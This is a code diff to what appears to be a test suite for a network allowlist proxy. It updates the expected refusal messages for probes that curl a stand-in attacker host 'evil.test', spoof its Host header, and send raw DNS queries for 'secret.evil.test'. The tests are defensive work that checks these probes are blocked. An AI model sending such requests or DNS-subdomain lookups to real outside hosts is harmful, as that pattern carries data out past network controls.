@@ -211,7 +211,7 @@ console.log(told.rule, told.entry, again.id === told.id);
                  curl -sS http://stockade.internal/v1/why/registry.test | grep -o '\"entry\":[^,]*'",
         expected: Prints("403\n\"entry\":\"registry.test:80 GET /repo.git/info/refs ?service\"\n"),
     },
-    refused("another-name", "curl -sS https://evil.test/ 2>&1", "Could not resolve host: evil.test", "evil.test: no entry of the list names it"),
+    refused("another-name", "curl -sS https://evil.test/ 2>&1", "Could not resolve host: evil.test", "evil.test refused: no entry of the list names it"),
     refused("another-port", "curl -sS --max-time 5 http://registry.test:8080/ 2>&1", "Failed to connect", ""),
     refused("another-address", "curl -sS --max-time 5 http://93.184.216.34/hello 2>&1", "curl: (7)", ""),
     refused("another-host", "curl -sS -H 'Host: evil.test' http://registry.test/hello", "\"rule\":\"other-host\"", "its `Host` names `evil.test`"),
@@ -226,7 +226,7 @@ s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
 s.settimeout(5)
 for kind in (16, 10, 28):
     s.sendto(b\"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0\\x06secret\\x04evil\\x04test\\0\\0\" + bytes([kind]) + b\"\\0\\x01\", (\"127.0.0.1\", 53))
-    print(s.recv(512)[3] & 15, end=\" \")'", "3 3 3 ", "secret.evil.test: no entry"),
+    print(s.recv(512)[3] & 15, end=\" \")'", "3 3 3 ", "secret.evil.test refused: no entry"),
 ];
 
 const fn needs(
